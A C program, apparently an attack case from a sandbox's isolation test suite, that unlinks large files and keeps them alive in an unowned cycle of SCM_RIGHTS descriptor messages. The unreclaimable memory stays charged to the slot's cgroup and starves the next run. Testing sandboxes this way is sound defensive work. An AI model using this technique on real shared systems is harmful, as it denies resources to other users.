// Attacks: the memory of the next run on the slot. Writes argv[1] MiB into files of /box (8 MiB
// each, within the file size limit), unlinks them and keeps them open only in flight, in a cycle of SCM_RIGHTS messages no process
// holds: the box's tmpfs is detached after the run, but the pages of the files stay charged to
// the slot's cgroup for as long as the cycle lives, and they cannot be reclaimed (no swap).
// Prints "planted N MiB" and exits 0.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "send_fd.h"

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const long mib = atol(argv[1]);
  static char block[1 << 20];
  memset(block, 'x', sizeof block);
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) != 0) return 3;
  for (long written = 0; written < mib;) {
    const int file = open("ballast", O_RDWR | O_CREAT | O_TRUNC, 0600);
    if (file < 0) return 3;
    for (long in_file = 0; in_file < 8 && written < mib; ++in_file, ++written) {
      if (write(file, block, sizeof block) != (ssize_t)sizeof block) return 3;
    }
    if (unlink("ballast") != 0 || send_fd(pair[0], file) != 0) return 3;
    close(file);
  }
  // pair[1]'s queue holds the files and pair[1] itself: once closed, only the cycle holds them.
  if (send_fd(pair[0], pair[1]) != 0) return 3;
  close(pair[0]);
  close(pair[1]);
  printf("planted %ld MiB\n", mib);
  return 0;
}
